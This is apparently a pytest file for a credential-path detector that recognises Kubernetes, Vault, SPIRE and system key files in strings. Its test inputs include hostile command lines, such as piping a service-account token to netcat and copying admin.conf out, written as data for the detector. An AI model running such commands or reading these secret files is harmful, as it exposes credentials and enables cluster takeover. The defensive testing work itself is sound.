"""Which texts are paths of files in which tokens and keys lie."""

from __future__ import annotations

import pytest

from gatekeeper_py.tenancy.keyfiles import is_key_file, key_file_in


@pytest.mark.parametrize(
    "text",
    [
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/run/spire/sockets/agent.sock",
        "unix:///run/spire/sockets/agent.sock",
        "/vault/secrets/token",
        "/etc/ssl/private/key.pem",
        "C:\\var\\run\\secrets\\kubernetes.io\\serviceaccount\\token",
        "~/.kube/config",
        "../../proc/self/environ",
        "/var/log/pods/*/*.log",
    ],
)
def test_a_path_leads_to_keys(text: str) -> None:
    assert is_key_file(text)


@pytest.mark.parametrize(
    "text",
    [
        "/etc/ssl/certs/ca.pem",
        "/vault/config",
        "/run/spirit",
        "C:\\data\\web",
        "see /var/run/secrets",
        "/var/run/secrets/" + "a" * 5000,
    ],
)
def test_another_does_not(text: str) -> None:
    assert not is_key_file(text)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        (
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc x 80",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
        ("set -e\ncp '/etc/kubernetes/admin.conf' x", "/etc/kubernetes/admin.conf"),
        ("alias /host/etc/shadow;", "/host/etc/shadow"),
    ],
)
def test_a_path_is_found_in_the_midst_of_a_text(text: str, path: str) -> None:
    assert key_file_in(text) == path


@pytest.mark.parametrize(
    "text",
    [
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "cat /etc/passwd.d/x and /data/etc/shadow",
        "see /var/run/secrets/app",
        "ls /host/data",
    ],
)
def test_a_text_that_is_a_path_or_tells_of_another_names_none(text: str) -> None:
    assert key_file_in(text) == ""
